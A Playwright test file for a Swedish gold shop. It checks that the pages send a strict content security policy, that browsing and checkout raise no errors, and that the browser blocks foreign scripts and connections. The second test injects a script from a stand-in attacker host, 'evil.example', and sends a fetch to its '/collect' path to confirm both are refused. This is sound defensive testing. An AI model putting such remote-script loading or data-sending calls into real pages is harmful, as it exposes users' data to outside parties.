import type { Page } from 'playwright/test';
import { BAR, fillCheckout, putInCart } from './support/purchase';
import { expect, test } from './support/test';

/** What the browser has refused, or said went wrong, on every page of this tab. */
function watch(page: Page): string[] {
  const wrong: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') wrong.push(`${page.url()}: ${message.text()}`);
  });
  page.on('pageerror', (error) => wrong.push(`${page.url()}: ${error.message}`));
  return wrong;
}

test('the content security policy forbids nothing that the shop needs, and no page says an error', async ({ page }) => {
  const wrong = watch(page);
  for (const path of ['/', '/kopa-guld', '/salja-guld', '/blogg/paslag-och-spread', '/jamfor', '/faq', '/login']) {
    const response = await page.goto(path);
    expect(response?.headers()['content-security-policy'], path).toContain("default-src 'self'");
    await page.waitForLoadState('networkidle');
  }
  await page.goto(BAR.path);
  await page.getByRole('link', { name: 'Visa film' }).click();
  const film = page.locator('video');
  await expect.poll(() => film.evaluate((video: HTMLVideoElement) => video.readyState)).toBeGreaterThan(0);
  await page.keyboard.press('Escape');
  await page
    .getByRole('button', { name: /^Förstora bild/ })
    .first()
    .click();
  await expect(page.getByRole('dialog', { name: /^Bilder av/ })).toBeVisible();
  await putInCart(page);
  await fillCheckout(page, 'Swish');
  expect(wrong).toEqual([]);
});

test('a script or a connection of somebody else is refused', async ({ page }) => {
  await page.goto('/');
  const refused = await page.evaluate(async () => {
    const refusal = (directive: string) =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
          if (effectiveDirective === directive) resolve(`${directive} ${new URL(blockedURI).hostname}`);
        });
      });
    const both = Promise.all([refusal('script-src-elem'), refusal('connect-src')]);
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js';
    document.head.append(script);
    await fetch('https://evil.example/collect').catch(() => {});
    return both;
  });
  expect(refused).toEqual(['script-src-elem evil.example', 'connect-src evil.example']);
});
